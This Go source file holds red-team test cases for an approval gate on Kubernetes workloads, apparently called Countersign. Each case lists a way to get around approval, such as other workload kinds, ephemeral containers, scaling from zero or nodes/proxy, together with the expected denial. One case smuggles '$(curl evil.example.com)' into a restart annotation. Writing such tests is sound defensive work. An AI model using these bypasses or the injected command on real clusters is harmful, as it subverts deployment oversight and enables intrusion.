// Copyright 2026 The Countersign Authors.
// SPDX-License-Identifier: Apache-2.0

package redteam

// Everything that runs containers is gated, whatever kind it is and whoever makes it.
var workloads = []attack{
	{
		name: "Deployment without approval", does: "applies the release, and hopes that nobody asks",
		as: alice, call: create(deployment()),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "StatefulSet instead", does: "another kind, which a rule for Deployments forgets",
		as: alice, call: create(like("StatefulSet", "apps/v1")),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "DaemonSet instead", does: "the same on every node",
		as: alice, call: create(like("DaemonSet", "apps/v1")),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Job instead", does: "runs it once, which is often enough",
		as: alice, call: create(job()),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Job with a generated name", does: "a name that no approval can know",
		as: alice, call: create(job(`{metadata: {name: null, generateName: $ME-}}`)),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "CronJob instead", does: "runs it tonight",
		as: alice, call: create(cronJob()),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "ReplicaSet instead", does: "what a Deployment would have made",
		as: owner, call: create(like("ReplicaSet", "apps/v1")),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "ReplicationController instead", does: "the kind that everybody has forgotten",
		as: owner, call: create(like("ReplicationController", "v1", `{spec: {selector: null}}`)),
		by: entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "PodTemplate for somebody to use", does: "leaves a template for a controller that runs such",
		as: owner, call: create(merged(like("PodTemplate", "v1", `{spec: null}`), `{template: `+template+`}`)),
		by: entry("templates.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Bare Pod", does: "no workload at all",
		as: owner, call: create(pod()),
		by: entry("pods.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Bare Pod by a cluster administrator", does: "rights of RBAC are no approval",
		as: mallory, call: create(pod()),
		by: entry("pods.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Pod of a controller for custom kinds", does: "has an operator make the Pod, by an object that nobody gates",
		as: stranger, call: create(pod()),
		by: entry("pods.gate"), says: "is neither a person nor a bot of a PipelineRole",
	},
	{
		name: "Deployer from elsewhere", does: "has Argo CD, Flux or Crossplane apply it from a namespace that nobody guards",
		as: deployer, call: create(deployment()),
		by: entry("workloads.gate"), says: "is neither a person nor a bot of a PipelineRole",
	},
	{
		name: "Image of a running Pod", does: "the image of a Pod can be changed while it runs",
		as: owner, before: []step{brought(owner, create(calmPod))},
		call: amend("Pod shop/$ME", "", `{spec: {containers: [{name: web, image: "$EVIL"}]}}`),
		by:   entry("pods.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Ephemeral container", does: "kubectl debug",
		as: alice, before: []step{brought(owner, create(calmPod))},
		call: amend("Pod shop/$ME", "ephemeralcontainers",
			`{spec: {ephemeralContainers: [{name: shell, image: "$EVIL", targetContainerName: web}]}}`),
		by: entry("pods.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Resize of a running Pod", does: "starves it through pods/resize",
		as: owner, before: []step{brought(owner, create(merged(calmPod, `{spec: {containers: [`+sized("100m")+`]}}`)))},
		call: amend("Pod shop/$ME", "resize", `{spec: {containers: [`+sized("1m")+`]}}`),
		by:   entry("pods.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Mirror Pod", does: "says that a kubelet has it from a file, and hopes for an exemption",
		as: owner, call: create(pod(`{metadata: {annotations: {kubernetes.io/config.mirror: x}}, spec: {nodeName: n1}}`)),
		by: entry("pods.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Scale from zero", does: "starts something old that was never approved, by its scale",
		as: mallory, before: leftover,
		call: changeAt("Deployment $ME/$ME", "scale", `{spec: {replicas: 3}}`),
		by:   entry("scale.gate"),
	},
	{
		name: "Scale from zero by a patch", does: "the same without the subresource",
		as: mallory, before: leftover,
		call: change("Deployment $ME/$ME", `{spec: {replicas: 3}}`),
		by:   entry("workloads.gate"),
	},
	{
		name: "Suspended CronJob", does: "lets go what was approved as suspended",
		as: alice, before: []step{brought(alice, create(cronJob(`{spec: {suspend: true}}`)))},
		call: change("CronJob shop/$ME", `{spec: {suspend: false}}`),
		by:   entry("workloads.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Replace by force", does: "kubectl replace --force: delete it first, then it is no change",
		as: alice, before: []step{brought(alice, create(deployment()))},
		call: remove("Deployment shop/$ME"),
		by:   entry("delete.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Deletion in bulk", does: "deletecollection is another verb",
		as: owner, before: []step{brought(alice, create(deployment(`{metadata: {labels: {bulk: $ME}}}`)))},
		call: removeAll("Deployment shop/", "bulk=$ME"),
		by:   entry("delete.gate"), says: "kubectl countersign approve",
	},
	{
		name: "Text in the annotation of a restart", does: "puts a payload where kubectl rollout restart puts a time",
		as: alice, before: []step{brought(alice, create(deployment()))},
		call: change("Deployment shop/$ME", restarted("$(curl evil.example.com)")),
		by:   entry("workloads.gate"), says: "kubectl countersign approve",
		right: []step{by(alice, change("Deployment shop/$ME", restarted("2030-01-31T12:00:00Z")))}, rightly: "a time",
	},
	{
		name: "Reaching through a node", does: "runs a command through nodes/proxy, past admission and audit",
		as: owner, call: raw("GET", "/api/v1/nodes/n1/proxy/run/shop/web/web?cmd=id", ""),
		by:    rights("no role gives `nodes/proxy`, and none can"),
		right: []step{may(mallory, "get", "nodes", "proxy", "")}, rightly: "a cluster administrator may",
	},
	{
		name: "Node of one's own choice", does: "binds a Pod that waits to a node where the attacker reads its memory",
		as: owner, before: []step{brought(owner, create(calmPod))},
		call: createAt("Pod shop/$ME", "binding", `{apiVersion: v1, kind: Binding, metadata: {name: $ME},
			target: {kind: Node, name: mine}}`),
		verdict: limit, limit: "Who may bind Pods, which no capability gives, chooses where they run",
	},
	{
		name: "Eviction to pull a tag again", does: "pushes another image under the tag, and has the Pod made anew",
		as: alice, before: []step{brought(owner, create(calmPod))},
		call: createAt("Pod shop/$ME", "eviction", `{apiVersion: policy/v1, kind: Eviction,
			metadata: {name: $ME, namespace: shop}}`),
		verdict: limit, limit: "An image that is named by a tag is whatever the registry says when it is pulled",
	},
	{
		name: "False status", does: "says that what entered staging ran well there",
		as: owner, before: []step{by(alice, create(deployment(`{metadata: {namespace: staging}}`)))},
		call: changeAt("Deployment staging/$ME", "status", `{status: {availableReplicas: 1, readyReplicas: 1,
			replicas: 1}}`),
		verdict: limit, limit: "who may write the `status` of workloads in an environment that others promote from",
	},
}

// calmPod runs what people have looked at.
var calmPod = pod(`{spec: {containers: [{name: web, image: "$GOOD"}]}}`)

func sized(cpu string) string {
	return `{name: web, image: "$GOOD", resources: {requests: {cpu: ` + cpu + `}, limits: {cpu: 200m}}}`
}

func restarted(when string) string {
	return `{spec: {template: {metadata: {annotations: {kubectl.kubernetes.io/restartedAt: "` + when + `"}}}}}`
}

// leftover is something that was scaled to nothing before its namespace joined production.
var leftover = []step{
	given(`{apiVersion: v1, kind: Namespace, metadata: {name: $ME}}`),
	given(deployment(`{metadata: {namespace: $ME}, spec: {replicas: 0}}`)),
	by(installer, change("Namespace $ME", `{metadata: {labels: {countersign.dev/environment: production}}}`)),
	gated("$ME"),
}
